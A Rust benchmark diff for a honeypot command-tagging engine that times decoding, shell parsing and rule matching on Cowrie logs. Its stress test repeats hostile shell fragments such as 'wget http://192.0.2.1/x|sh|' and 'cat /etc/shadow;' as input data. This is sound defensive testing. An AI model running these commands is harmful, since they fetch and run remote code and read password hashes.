@@ -1,0 +1,229 @@
+//! From a raw line to tags with spans, on one core: how fast, which stage takes the time, and what more rules cost.
+//! Beside it the library's own evaluator on ready-made views.
+//!
+//! `cargo xtask bench engine` runs it. `VESPID_LINES` names a file with one more command a line.
+#![expect(clippy::unwrap_used, clippy::print_stdout, reason = "a measurement that cannot go on has failed")]
+
+use std::collections::BTreeSet;
+use std::fs;
+use std::hint::black_box;
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+use rsigma_eval::evaluate_rule;
+use serde_json::{Value, json};
+use vespid_attack::Catalogue;
+use vespid_engine::rule::Target;
+use vespid_engine::view::View;
+use vespid_engine::{Engine, Pack, RuleFile, shipped_rules};
+use vespid_ingest::decode::cowrie;
+use vespid_model::Body;
+use vespid_model::event::Event;
+
+fn main() {
+    let passes = if std::env::args().any(|argument| argument == "--bench") { 15 } else { 1 };
+    let said = said();
+    let distinct: Vec<_> = said.iter().collect::<BTreeSet<_>>().into_iter().cloned().collect();
+    let (as_said, once) = (raw(&said), raw(&distinct));
+    let bytes = distinct.iter().map(String::len).sum::<usize>() / distinct.len();
+    println!("{} lines, {} distinct, {bytes} bytes on average", said.len(), distinct.len());
+
+    let shipped = shipped_rules();
+    let count = Engine::new(Pack::load(&shipped, attack()), attack()).0.rules().len();
+    for rules in [count, 300, 1000, 3000] {
+        let files = many(&shipped, rules);
+        let started = Instant::now();
+        let engine = Engine::new(Pack::load(&files, attack()), attack()).0;
+        let compiled = started.elapsed();
+        let distinct = best(passes, || {
+            engine.forget();
+            let started = Instant::now();
+            once.iter().for_each(|line| drop(black_box(tagged(&engine, line))));
+            started.elapsed()
+        });
+        let repeated = best(passes, || {
+            engine.forget();
+            as_said.iter().for_each(|line| drop(black_box(tagged(&engine, line))));
+            let started = Instant::now();
+            as_said.iter().for_each(|line| drop(black_box(tagged(&engine, line))));
+            started.elapsed()
+        });
+        println!(
+            "{:5} rules  distinct {:9.0} lines/s  as said {:9.0} lines/s  read and compiled in {:.0} ms",
+            engine.rules().len(),
+            rate(once.len(), distinct),
+            rate(as_said.len(), repeated),
+            compiled.as_secs_f64() * 1e3,
+        );
+    }
+    stages(passes, &shipped, &once);
+    hostile(&shipped);
+}
+
+fn stages(passes: usize, files: &[RuleFile], lines: &[Vec<u8>]) {
+    let engine = Engine::new(Pack::load(files, attack()), attack()).0;
+    let events: Vec<Event> = lines.iter().map(|line| cowrie::decode(line).unwrap().unwrap()).collect();
+    let texts: Vec<&str> = events.iter().map(text).collect();
+    let parsed: Vec<_> = texts.iter().map(|text| vespid_shell::parse(text)).collect();
+    let commands: usize = parsed.iter().map(|line| line.commands.len()).sum();
+    let tags: usize = events.iter().map(|event| engine.tag(event).tags.len()).sum();
+    println!("{} lines have {commands} commands and {tags} tags", lines.len());
+    let show = |name: &str, took: Duration| {
+        println!("{name:34} {:8.0} ns a line", took.as_secs_f64() * 1e9 / lines.len() as f64);
+    };
+    show(
+        "decode, event id",
+        time(passes, || lines.iter().for_each(|line| drop(black_box(cowrie::decode(line))))),
+    );
+    show("shell", time(passes, || texts.iter().for_each(|text| drop(black_box(vespid_shell::parse(text))))));
+    show(
+        "match",
+        time(passes, || {
+            for (text, line) in texts.iter().zip(&parsed) {
+                black_box(engine.count_matches(text, line));
+            }
+        }),
+    );
+    show(
+        "shell, match, span, ids, all new",
+        best(passes, || {
+            engine.forget();
+            let started = Instant::now();
+            events.iter().for_each(|event| drop(black_box(engine.tag(event))));
+            started.elapsed()
+        }),
+    );
+    show(
+        "ids and tags, all known",
+        time(passes, || events.iter().for_each(|event| drop(black_box(engine.tag(event))))),
+    );
+    let views: Vec<Vec<View<'_>>> = texts
+        .iter()
+        .zip(&parsed)
+        .map(|(text, line)| {
+            line.commands.iter().map(|command| View::Process { command, line: text }).collect()
+        })
+        .collect();
+    let mut library = rsigma_eval::Engine::new();
+    let process = |place: &usize| engine.rules()[*place].target == Target::Process;
+    for place in (0..engine.rules().len()).filter(process) {
+        library.add_compiled_rule(engine.compiled()[place].clone());
+    }
+    show(
+        "the library alone, views ready",
+        time(passes, || {
+            views.iter().flatten().for_each(|view| drop(black_box(library.evaluate(view))));
+        }),
+    );
+    black_box(evaluate_rule(&engine.compiled()[0], &views[0][0]));
+}
+
+/// Long lines that are meant to hurt.
+fn hostile(files: &[RuleFile]) {
+    let engine = Engine::new(Pack::load(files, attack()), attack()).0;
+    let parts = [
+        ("semicolons", ";"),
+        ("substitutions", "$("),
+        ("quotes", "'\"\\"),
+        ("here-documents", "<<A "),
+        ("commands", "cat /etc/shadow;"),
+        ("wrappers", "sudo "),
+        ("pipes", "wget http://192.0.2.1/x|sh|"),
+        ("one word", "a"),
+        ("evals", "eval \"$("),
+        ("words", "rm x "),
+        ("echoes", "echo -e '\\x41' > /tmp/x;"),
+    ];
+    let mut all = Vec::new();
+    for (name, part) in parts {
+        let event = cowrie::decode(&raw(&[part.repeat(10_000 / part.len())])[0]).unwrap().unwrap();
+        let mut took: Vec<_> = (0..100)
+            .map(|_| {
+                engine.forget();
+                let started = Instant::now();
+                black_box(engine.tag(&event));
+                started.elapsed()
+            })
+            .collect();
+        took.sort();
+        println!("10 kB of {name:16} {:7.0} us", took[50].as_secs_f64() * 1e6);
+        all.extend(took);
+    }
+    all.sort();
+    println!("10 kB hostile lines: p99 {:.0} us", all[all.len() * 99 / 100].as_secs_f64() * 1e6);
+}
+
+fn tagged(engine: &Engine, line: &[u8]) -> usize {
+    let event = cowrie::decode(line).unwrap().unwrap();
+    engine.tag(&event).tags.len()
+}
+
+fn text(event: &Event) -> &str {
+    let Body::Command(command) = &event.body else { unreachable!("only commands are measured") };
+    &command.command_text
+}
+
+fn attack() -> &'static Catalogue {
+    Catalogue::default_release()
+}
+
+fn rate(lines: usize, took: Duration) -> f64 {
+    lines as f64 / took.as_secs_f64()
+}
+
+fn time(passes: usize, mut run: impl FnMut()) -> Duration {
+    best(passes, || {
+        let started = Instant::now();
+        run();
+        started.elapsed()
+    })
+}
+
+fn best(passes: usize, run: impl FnMut() -> Duration) -> Duration {
+    std::iter::repeat_with(run).take(passes).min().unwrap()
+}
+
+/// As many rules as asked: the shipped ones, then copies that ask for other words.
+fn many(shipped: &[RuleFile], count: usize) -> Vec<RuleFile> {
+    let copy = |copy: usize, file: &RuleFile| RuleFile {
+        path: format!("{copy}/{}", file.path),
+        text: file
+            .text
+            .replace("\nname: ", &format!("\nname: c{copy}_"))
+            .replace("'/", &format!("'/c{copy}")),
+    };
+    let copies = (1..).flat_map(|number| shipped.iter().map(move |file| copy(number, file)));
+    shipped.iter().cloned().chain(copies).take(count.max(shipped.len())).collect()
+}
+
+/// Commands typed into real honeypots, in their order.
+fn said() -> Vec<String> {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../data/samples");
+    let mut said = Vec::new();
+    for log in ["cowrie-a.json", "cowrie-b.json"] {
+        for line in fs::read_to_string(folder.join(log)).unwrap().lines() {
+            let line: Value = serde_json::from_str(line).unwrap();
+            if line["eventid"] == "cowrie.command.input" {
+                said.push(line["input"].as_str().unwrap().to_owned());
+            }
+        }
+    }
+    if let Some(more) = std::env::var_os("VESPID_LINES") {
+        said.extend(fs::read_to_string(more).unwrap().lines().map(str::to_owned));
+    }
+    said
+}
+
+/// As Cowrie logs them.
+fn raw(commands: &[String]) -> Vec<Vec<u8>> {
+    let line = |input: &String| {
+        json!({
+            "eventid": "cowrie.command.input", "input": input, "message": format!("CMD: {input}"),
+            "sensor": "decky", "timestamp": "2026-01-01T00:00:00.000000Z", "src_ip": "192.0.2.7",
+            "session": "0123456789ab", "protocol": "ssh",
+        })
+        .to_string()
+        .into_bytes()
+    };
+    commands.iter().map(line).collect()
+}
